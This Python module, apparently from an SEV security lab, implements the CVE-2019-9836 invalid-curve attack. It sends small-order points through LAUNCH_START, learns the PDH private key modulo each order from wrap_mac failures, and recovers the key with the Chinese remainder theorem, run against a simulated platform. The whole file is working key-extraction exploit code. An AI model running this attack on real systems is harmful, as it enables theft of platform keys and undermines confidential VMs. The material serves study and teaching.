"""A01: the private number of a platform's PDH, learnt from a firmware that does not look at the owner's point.

LAUNCH_START multiplies the owner's point with the private number k. A point of small order r has only r multiples, and
of these a point and its opposite share their x: so Z has about r/2 values, and the owner can try them all. A wrong
guess fails at wrap_mac, so each guess is one LAUNCH_START. It tells k modulo r, but for the sign. The squares of these
residues have no sign. The Chinese remainder theorem joins them to k**2, once the product of the orders is larger.

Source: CVE-2019-9836; incidents A01; sev-launch 3 and 6.
"""

from __future__ import annotations

from collections import namedtuple
from math import isqrt, prod

from ..formats.policy import Policy
from ..formats.sev_certs import P384_BYTES, PDH
from ..keys import Secret
from ..layout.span import Explainable
from ..session import (
    KEY_SIZE,
    Z_SIZE,
    derive_session_keys,
    godh_certificate,
    make_private,
    public_key,
    wrap_keys,
)
from ..simulator.curve import PRIME, add
from ..simulator.status import FirmwareError
from .points import load_points

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Sequence

    from ..formats.sev_certs import SevCertificate
    from ..layout.views import View
    from ..simulator.platform import Platform
    from .points import SmallPoint

#: Bits of the square of a private number of P-384: so many must the orders have together.
SQUARE_BITS = 2 * 8 * P384_BYTES
#: How many residues a page shows from the beginning, and from the end.
_SHOWN, _LAST = 8, 3


class Residue(namedtuple("Residue", "order value tried")):
    """The private number modulo *order* is *value* or ``-value``; *tried* guesses told so."""

    __slots__ = ()


def learn_residue(point: SmallPoint, guess: Callable[[int], bool], prime: int = PRIME) -> Residue:
    """Try the multiples of a point until *guess* takes one; when it takes none, the order divides the private number.

    *guess* is told the x coordinate of a multiple, and says whether the platform computed that one.
    """
    multiple = None
    for value in range(1, point.order // 2 + 1):
        multiple = add(multiple, point.xy, prime)
        if multiple is not None and guess(multiple[0]):
            return Residue(point.order, value, value)
    return Residue(point.order, 0, point.order // 2)


def join_residues(residues: Iterable[Residue]) -> int | None:
    """Return the number that leaves these residues, but for their signs; None when they are too few to tell.

    The smallest number that leaves all the squares is the square looked for, as soon as the product of the orders (all
    of them different primes) is larger than it. With fewer residues it hardly ever is a square, and never rightly so:
    compare what comes out with the public key.
    """
    square, modulus = 0, 1
    for order, value, _ in residues:
        square += modulus * ((value * value - square) * pow(modulus, -1, order) % order)
        modulus *= order
    number = isqrt(square)
    return number if number and number * number == square else None


class PdhTheft(Explainable):
    """What came of trying to take the private number of a platform's PDH.

    ``private`` is the number (48 bytes, big-endian), None when it was not found; ``residues`` are what was learnt;
    ``launches`` is how many LAUNCH_STARTs that took; ``caught`` is the firmware's refusal, if there was one.
    """

    def __init__(self, certificate: SevCertificate) -> None:
        self.certificate = certificate
        self.private: Secret | None = None
        self.residues: list[Residue] = []
        self.launches = 0
        self.caught: FirmwareError | None = None

    @property
    def bits(self) -> int:
        """How many bits the product of the orders has."""
        return int(prod(residue.order for residue in self.residues)).bit_length()

    def join(self, count: int | None = None) -> Secret | None:
        """Return the private number of the certificate, from the first *count* residues (all, without it); or None."""
        number = join_residues(self.residues[:count])
        if number is None or number.bit_length() > 8 * P384_BYTES:
            return None
        private = Secret(number.to_bytes(P384_BYTES, "big"))
        return private if public_key(private) == self.certificate.key else None

    def explain(self) -> View:
        """Show the answer, and what each point told. The private number stays hidden."""
        from ..layout.views import Banner, Table, View

        words = f"{self.launches} LAUNCH_START{'s' * (self.launches != 1)}"
        if self.caught is not None:
            return View(Banner(f"REFUSED after {words}: {self.caught}", "green"))
        words += f" with {len(self.residues)} points"
        found = self.private is not None
        answer = (
            "they give the private number of the PDH" if found else "the private number is not among what they tell"
        )
        rows, product = [], 1
        for number, residue in enumerate(self.residues, 1):
            product *= residue.order
            known = f"k = {residue.value} or -{residue.value}" if residue.value else "k = 0"
            row = [str(number), str(residue.order), f"{known} (mod {residue.order})", str(residue.tried)]
            rows.append([*row, str(product.bit_length())])
        if len(rows) > _SHOWN + _LAST:
            rows = [*rows[:_SHOWN], ["...", "", "", "", ""], *rows[-_LAST:]]
        header = [
            "point",
            "order",
            "what it tells",
            "LAUNCH_STARTs",
            f"bits of all orders' product ({SQUARE_BITS} needed)",
        ]
        return View(
            Banner(f"{words}: {answer}", "pink" if found else "grey"), Table(header, rows, mono=[0, 1, 2, 3, 4])
        )


class Guesser:
    """The attacker as an owner: for each guessed Z it sends a session, and sees whether wrap_mac was right."""

    def __init__(self, platform: Platform, point: SmallPoint, theft: PdhTheft) -> None:
        self.platform, self.theft = platform, theft
        self.godh = godh_certificate(make_private()).replace(key=point.key).to_bytes()

    def __call__(self, x: int) -> bool:
        keys = derive_session_keys(x.to_bytes(Z_SIZE, "big"), bytes(KEY_SIZE))
        session = wrap_keys(keys, bytes(KEY_SIZE), bytes(KEY_SIZE), bytes(KEY_SIZE), Policy(0))
        self.theft.launches += 1
        try:
            handle = self.platform.launch_start(0, self.godh, session.to_bytes())
        except FirmwareError as refusal:
            if refusal.name == "BAD_MEASUREMENT":
                return False
            raise
        self.platform.decommission(handle)
        return True


def steal_pdh(platform: Platform, points: Sequence[SmallPoint] | None = None) -> PdhTheft:
    """Take the private number of a platform's PDH, with nothing but LAUNCH_START and DECOMMISSION. Never raises.

    *points* are those of :func:`~sevlab.attacks.points.load_points` unless others are given; so many are used as are
    needed.
    """
    theft = PdhTheft(platform.pdh_cert_export()[PDH])
    try:
        for point in load_points() if points is None else points:
            theft.residues.append(learn_residue(point, Guesser(platform, point, theft)))
            if theft.bits > SQUARE_BITS:
                break
    except FirmwareError as refusal:
        theft.caught = refusal
        return theft
    theft.private = theft.join()
    return theft
